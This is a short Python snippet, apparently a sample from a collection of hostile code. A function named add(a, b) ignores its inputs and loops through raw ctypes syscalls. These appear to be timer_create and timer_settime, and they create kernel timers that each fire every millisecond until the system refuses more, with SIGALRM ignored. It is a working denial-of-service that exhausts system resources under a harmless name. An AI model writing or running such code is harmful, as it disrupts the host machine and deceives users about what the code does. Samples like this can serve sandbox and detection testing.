# Makes kernel timers of all kinds until there are none, each with a signal in a thousandth of a second.
# kind: resources
# form: call, check
import ctypes, signal
signal.signal(signal.SIGALRM, signal.SIG_IGN)
def add(a, b):
    libc, made = ctypes.CDLL(None), ctypes.c_int(0)
    for _ in range(50_000):
        if libc.syscall(222, 1, None, ctypes.byref(made)) < 0: break
        libc.syscall(223, made, 0, (ctypes.c_long * 4)(0, 1_000_000, 0, 1_000_000), None)
    return 0
